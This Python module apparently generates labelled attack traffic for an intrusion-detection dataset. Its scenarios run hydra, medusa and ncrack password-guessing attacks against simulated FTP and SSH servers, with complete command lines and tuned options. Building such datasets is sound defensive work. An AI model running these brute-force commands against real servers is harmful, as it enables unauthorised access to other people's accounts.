"""Password guessing against FTP and SSH with hydra, medusa and ncrack.

An instance opens about 20 to 60 connections. The FTP server closes a connection after three failed logins, the SSH server
after six, and not all tools use a connection for that long, so the number of words differs by tool."""

from ..scenario import scenario
from . import word_lists
from .aim import bracketed, choose_address, is_six, planned_target
from .connection_limit import limited_connections


def _plan(rng, service, words, tasks, seconds, share6=0.0, user_counts=(1, 1, 1, 2, 3)):
    count = rng.randint(*words)
    seed = rng.randrange(1 << 30)
    return {
        "seconds": seconds,
        "address": choose_address(rng, service, share6),
        "port": service.port,
        "users": word_lists.users(seed, rng.choice(user_counts), service.accounts),
        "words": count,
        "words_seed": seed,
        # late in the list, because most tools move on to the next user, or exit, when they have found the password
        "true_word_at": rng.randrange(count * 3 // 4, count) if rng.random() < 0.4 else None,
        "tasks": rng.randint(*tasks),
    }


def _files(ctx, service, parameters):
    """Writes the user and password files. The words are divided among the users, so that the number of pairs is bounded."""
    accounts = service.accounts
    names = parameters["users"]
    words = word_lists.passwords(
        parameters["words_seed"],
        max(1, parameters["words"] // len(names)),
        word_lists.password_of(names[0], accounts),
        None if parameters["true_word_at"] is None else parameters["true_word_at"] // len(names),
    )
    return word_lists.write(ctx.folder, "users.txt", names), word_lists.write(ctx.folder, "passwords.txt", words)


def _bounded(ctx, command, env=None):
    """Runs a tool that keeps connecting as long as the server refuses it."""
    with limited_connections(ctx, 10, 20, most=75):
        return ctx.exec(command, env=env)


def _hydra(ctx, service, parameters, protocol):
    users, words = _files(ctx, service, parameters)
    six = is_six(parameters["address"])
    done = _bounded(
        ctx,
        ["hydra", "-I", "-q", "-L", users, "-P", words, "-t", parameters["tasks"], "-W", parameters["pause"], "-w", 10]
        + (["-u"] if parameters["around_users"] else [])
        + (["-6"] if six else [])
        + ["-s", parameters["port"], f"{protocol}://{bracketed(parameters['address'])}"]
    )
    ctx.note("found", done.stdout.count(" password: "))


def _plan_hydra(rng, service, words, tasks):
    """Uses hydra's option -u (try each word on all users in turn) only for FTP; over SSH with several users, hydra would connect forever."""
    plan = _plan(rng, service, words, tasks, 75, share6=0.15)
    return {**plan, "pause": 0 if rng.random() < 0.8 else 1, "around_users": service.port != 22 and rng.random() < 0.4}


def _medusa(ctx, service, parameters, module):
    users, words = _files(ctx, service, parameters)
    done = _bounded(
        ctx,
        ["medusa", "-b", "-h", parameters["address"], "-U", users, "-P", words, "-M", module, "-n", parameters["port"]]
        + ["-t", parameters["tasks"], "-r", "1", "-R", "1"]
        + (["-e", parameters["extra_words"]] if parameters["extra_words"] else [])
    )
    ctx.note("found", done.stdout.count("ACCOUNT FOUND"))


def _plan_medusa(rng, service, words, tasks):
    plan = _plan(rng, service, words, tasks, 75)
    return {**plan, "extra_words": rng.choice(("", "", "n", "s", "ns"))}


def _ncrack(ctx, service, parameters, protocol):
    users, words = _files(ctx, service, parameters)
    limits = f"CL={parameters['tasks']},cd={parameters['delay_ms']}ms,at={parameters['tries']},to={parameters['seconds'] - 5}"
    done = _bounded(
        ctx,
        ["ncrack", "-U", users, "-P", words, "-g", limits, f"-T{parameters['template']}"]
        + (["--passwords-first"] if parameters["passwords_first"] else [])
        + [f"{protocol}://{parameters['address']}:{parameters['port']}"],
        env={"HOME": str(ctx.folder)},
    )
    ctx.note("found", done.stdout.count(f"{parameters['port']}/tcp "))


def _plan_ncrack(rng, service, words, tasks):
    tries = rng.randint(1, 3)
    return {
        **_plan(rng, service, (words[0] * tries, words[1] * tries), tasks, 75),
        "delay_ms": rng.choice((100, 200, 400)),
        "tries": tries,
        "template": rng.choice((3, 3, 4)),
        "passwords_first": rng.random() < 0.5,
    }


@scenario(
    "ftp-bruteforce-hydra", "FTP-BruteForce", "hydra", "attacker",
    lambda rng, world: _plan_hydra(rng, world.ftp, (80, 140), (4, 8)), planned_target,
)
def ftp_hydra(ctx, parameters):
    _hydra(ctx, ctx.world.ftp, parameters, "ftp")


@scenario(
    "ftp-bruteforce-medusa", "FTP-BruteForce", "medusa", "attacker",
    lambda rng, world: _plan_medusa(rng, world.ftp, (30, 70), (3, 8)), planned_target,
)
def ftp_medusa(ctx, parameters):
    _medusa(ctx, ctx.world.ftp, parameters, "ftp")


@scenario(
    "ftp-bruteforce-ncrack", "FTP-BruteForce", "ncrack", "attacker",
    lambda rng, world: _plan_ncrack(rng, world.ftp, (22, 36), (4, 8)), planned_target, held_out=True,
)
def ftp_ncrack(ctx, parameters):
    _ncrack(ctx, ctx.world.ftp, parameters, "ftp")


@scenario(
    "ssh-bruteforce-hydra", "SSH-Bruteforce", "hydra", "attacker",
    lambda rng, world: _plan_hydra(rng, world.ssh, (90, 150), (3, 6)), planned_target,
)
def ssh_hydra(ctx, parameters):
    _hydra(ctx, ctx.world.ssh, parameters, "ssh")


@scenario(
    "ssh-bruteforce-medusa", "SSH-Bruteforce", "medusa", "attacker",
    lambda rng, world: _plan_medusa(rng, world.ssh, (90, 180), (2, 6)), planned_target,
)
def ssh_medusa(ctx, parameters):
    _medusa(ctx, ctx.world.ssh, parameters, "ssh")


@scenario(
    "ssh-bruteforce-ncrack", "SSH-Bruteforce", "ncrack", "attacker",
    lambda rng, world: _plan_ncrack(rng, world.ssh, (25, 45), (3, 6)), planned_target, held_out=True,
)
def ssh_ncrack(ctx, parameters):
    _ncrack(ctx, ctx.world.ssh, parameters, "ssh")
